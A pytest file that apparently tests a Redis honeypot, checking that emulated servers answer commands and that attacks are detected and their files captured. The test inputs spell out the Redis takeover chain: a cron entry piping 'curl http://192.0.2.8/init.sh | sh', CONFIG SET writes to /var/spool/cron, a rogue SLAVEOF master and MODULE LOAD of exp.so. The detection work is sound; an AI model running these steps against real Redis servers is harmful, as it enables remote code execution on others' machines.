"""redis-cli against the demo fleet's redis-servers, and against one with a password and one that lets everything in."""
import re

import pytest
from clients import captured, download, name_of, run, secret
from known_fleet import REDIS, REDIS_OPEN

CRON = "\n\n*/2 * * * * root curl -fsSL http://192.0.2.8/init.sh | sh\n\n"


def redis(place, *words, stdin=None, login=()):
    return run("redis-cli", "-h", place[0], "-p", place[1], *login, *words, stdin=stdin).rstrip("\n")


def attacks(fleet, decky):
    """What was recognised on a decky: (verb, attack, target)."""
    return [tuple(event["fields"].get(key, "") for key in ("verb", "attack", "target"))
            for event in fleet.events(type="request", service="redis", decky=decky)]


@pytest.fixture
def opened(known):
    return REDIS_OPEN.place(known)


def test_keys_and_lists_are_kept_between_connections(opened):
    assert redis(opened, "SET", "kept", "a value: \t\x01") == "OK"
    assert redis(opened, "GET", "kept") == "a value: \t\x01"
    assert redis(opened, "RPUSH", "queue", "1", "2", "3") == "3"
    assert redis(opened, "LPOP", "queue") == "1"
    assert redis(opened, "LRANGE", "queue", "0", "-1") == "2\n3"
    assert redis(opened, "DEL", "kept", "queue") == "2"
    assert redis(opened, "EXISTS", "kept", "queue") == "0"


def test_every_open_redis_of_the_demo_fleet_answers(fleet):
    for place in fleet.places("redis"):
        answer = redis(place, "SET", f"test:{place[0]}", "x")
        assert answer == "OK" or answer.startswith("NOAUTH Authentication required.")
        commands = fleet.wait_for(lambda: fleet.events(type="command", decky=name_of(fleet, place[0]), q="test:127"))
        assert commands[0]["fields"]["command"] == f"SET test:{place[0]} x"


def test_info_is_claimed_in_full_and_its_uptime_moves(known, opened):
    def vitals():
        return dict(re.findall(r"^(\w+):(.*?)\r?$", redis(opened, "INFO"), re.MULTILINE))
    first = vitals()
    assert first["redis_version"] == "7.0.15" and first["os"].startswith("Linux 6.1.0-") and int(first["uptime_in_days"]) > 1
    later = known.wait_for(lambda: (lambda now: now if now["uptime_in_seconds"] != first["uptime_in_seconds"] else None)(vitals()))
    assert 0 < int(later["uptime_in_seconds"]) - int(first["uptime_in_seconds"]) < 20
    assert int(later["total_connections_received"]) > int(first["total_connections_received"])
    assert later["run_id"] == first["run_id"]


def wait_for_attack(fleet, decky, verb, attack, target):
    fleet.wait_for(lambda: (verb, attack, target) in attacks(fleet, decky))


def test_a_cron_job_is_recognised_and_captured_though_redis_may_not_write_it(known, opened):
    quoted = CRON.replace("\n", "\\n")
    script = f'CONFIG SET dir /var/spool/cron\nCONFIG SET dbfilename root\nSET job "{quoted}"\nSAVE\nCONFIG SET dir /var/lib/redis\n'
    assert redis(opened, stdin=script).split() == ["OK", "OK", "OK", "ERR", "OK"]
    wait_for_attack(known, REDIS_OPEN.name, "CONFIG SET dir", "write_folder", "/var/spool/cron")
    wait_for_attack(known, REDIS_OPEN.name, "CONFIG SET dbfilename", "write_file", "root")
    wait_for_attack(known, REDIS_OPEN.name, "SET", "payload_cron", "job")
    wait_for_attack(known, REDIS_OPEN.name, "SAVE", "file_not_written", "/var/spool/cron/root")
    captured(known, REDIS_OPEN.name, CRON.encode())
    written = known.wait_for(lambda: known.events(type="file.captured", decky=REDIS_OPEN.name, q="/var/spool/cron/root"))
    assert download(known, written[0]["fields"]["sha256"]).startswith(b"REDIS0010") and int(written[0]["fields"]["size"]) > len(CRON)


def test_save_writes_where_redis_may_and_the_file_is_captured(known, opened):
    script = "CONFIG SET dir /var/lib/redis\nCONFIG SET dbfilename exp.so\nSAVE\nCONFIG SET dbfilename dump.rdb\n"
    assert redis(opened, stdin=script).split() == ["OK"] * 4
    wait_for_attack(known, REDIS_OPEN.name, "SAVE", "file_written", "/var/lib/redis/exp.so")
    written = known.wait_for(lambda: known.events(type="file.captured", decky=REDIS_OPEN.name, q="exp.so"))
    assert written[0]["fields"]["path"] == "/var/lib/redis/exp.so"


def test_a_rogue_master_is_recognised_and_the_link_stays_down(known, opened):
    assert redis(opened, "SLAVEOF", "192.0.2.9", "6380") == "OK"
    replication = redis(opened, "INFO", "replication")
    assert "role:slave" in replication and "master_link_status:down" in replication
    assert redis(opened, "SLAVEOF", "NO", "ONE") == "OK"
    assert "role:master" in redis(opened, "INFO", "replication")
    wait_for_attack(known, REDIS_OPEN.name, "SLAVEOF", "replicaof", "192.0.2.9:6380")


def test_a_module_and_a_script_are_recognised(known, opened):
    assert redis(opened, "MODULE", "LOAD", "./exp.so").startswith("ERR Error loading the extension. Please check the server logs.")
    assert redis(opened, "EVAL", "return {KEYS[1], redis.call('ping')['ok'], 1 + 2}", "1", "k") == "k\nPONG\n3"
    wait_for_attack(known, REDIS_OPEN.name, "MODULE LOAD", "module_load", "./exp.so")
    wait_for_attack(known, REDIS_OPEN.name, "EVAL", "script", "return {KEYS[1], redis.call('ping')['ok'], 1 + 2}")


def wait_for_secret(known, text):
    """Until the refused secret is a credential: others of earlier tests are there already."""
    known.wait_for(lambda: text in [secret(known, row)["secret"] for row in
                                    known.api(f"/credentials?limit=200&decky={REDIS.name}&principal=default&accepted=false")["data"]])


def test_a_password_is_asked_for_and_what_was_tried_is_a_credential(known):
    place = REDIS.place(known)
    assert redis(place, "GET", "x").startswith("NOAUTH Authentication required.")
    assert redis(place, "AUTH", "a wrong one").startswith("WRONGPASS invalid username-password pair or user is disabled.")
    wait_for_secret(known, "a wrong one")


def test_the_password_of_an_account_lets_in(known):
    seen = redis(REDIS.place(known), "DBSIZE", login=("--pass", REDIS.password, "--no-auth-warning"))
    assert int(seen) > 0
    rows = known.wait_for(lambda: known.api(f"/credentials?decky={REDIS.name}&principal=default&accepted=true")["data"])
    assert [secret(known, row)["secret"] for row in rows] == [REDIS.password]


def test_no_password_stands_in_a_command_event(known):
    redis(REDIS.place(known), "AUTH", "never-to-be-shown")
    wait_for_secret(known, "never-to-be-shown")
    commands = [event["fields"]["command"] for event in known.events(type="command", decky=REDIS.name)]
    assert commands and not any("never-to-be-shown" in command for command in commands)
